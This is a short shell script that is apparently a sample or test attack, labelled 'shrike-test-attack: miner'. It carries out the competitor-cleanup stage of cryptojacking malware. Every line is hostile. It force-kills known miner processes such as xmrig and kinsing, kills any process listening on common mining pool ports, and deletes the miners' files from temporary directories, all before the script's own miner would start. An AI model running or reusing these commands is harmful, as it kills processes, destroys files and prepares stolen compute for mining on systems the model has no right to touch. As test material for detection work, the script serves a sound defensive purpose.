#!/bin/sh
# shrike-test-attack: miner: kill competing miners by name and by pool port before starting own
pkill -9 -f xmrig; pkill -9 -f kdevtmpfsi; pkill -9 -f kinsing; pkill -f "stratum+tcp"
killall -9 minerd cpuminer ccminer 2>/dev/null
ps aux | grep -v grep | grep -E 'cryptonight|monero|xmr-stak|\.sysupdate' | awk '{print $2}' | xargs -r kill -9
netstat -anp 2>/dev/null | grep -E ':3333|:4444|:5555|:7777|:14444' | awk '{print $7}' | cut -d/ -f1 | xargs -r kill -9
rm -rf /tmp/kdevtmpfsi /var/tmp/kinsing /tmp/.X11-unix/xmr*
